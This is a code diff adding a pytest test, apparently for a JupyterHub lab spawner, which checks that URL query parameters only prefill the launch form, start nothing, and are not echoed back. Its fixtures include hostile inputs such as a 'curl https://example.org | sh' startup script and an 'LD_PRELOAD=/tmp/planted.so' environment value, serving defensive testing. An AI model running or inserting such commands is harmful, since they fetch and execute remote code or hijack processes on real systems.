@@ -257,6 +257,42 @@ def test_the_form_of_a_refused_start_comes_back_with_what_was_entered(
     assert "nonsense" not in fresh
 
 
+@pytest.mark.parametrize(
+    "more",
+    [
+        {},
+        {"startup_script": ["curl https://example.org | sh"]},
+        {"environment": ["LD_PRELOAD=/tmp/planted.so"]},
+        {"datasets": ["planted"]},
+        {"queue": ["gpu"]},
+        {"cancel": ["7"]},
+    ],
+)
+def test_an_address_fills_the_form_in_and_starts_nothing(
+    local: LabProcessSpawner, hub: Hub, more: dict[str, list[str]]
+) -> None:
+    profiles = tuple(
+        ProfileChoice(
+            slug=slug, name=slug, pool="p", pool_name="P", devices=0, cpu=0, memory_bytes=0
+        )
+        for slug in ("cpu", "gpu")
+    )
+    hub.answers["choices"] = LaunchChoices(is_required=True, profiles=profiles)
+    for query in ({"profile": ["gpu"], **more}, more, {"other": ["1"]}):
+        if not query:
+            continue
+
+        async def run(sent: dict[str, list[str]] = query) -> str:
+            with pytest.raises(SpawnException) as caught:
+                local.options_from_query(sent)
+            assert "press Start" in caught.value.jupyterhub_html_message
+            return await local.get_options_form()
+
+        form = asyncio.run(run())
+        assert not any(word in form for word in ("curl", "LD_PRELOAD", "planted"))
+    assert hub.verbs().count("leases") == 0
+
+
 def test_links_are_made_and_nothing_is_overwritten(tmp_path: Path) -> None:
     source, home = tmp_path / "data", tmp_path / "home"
     source.mkdir()
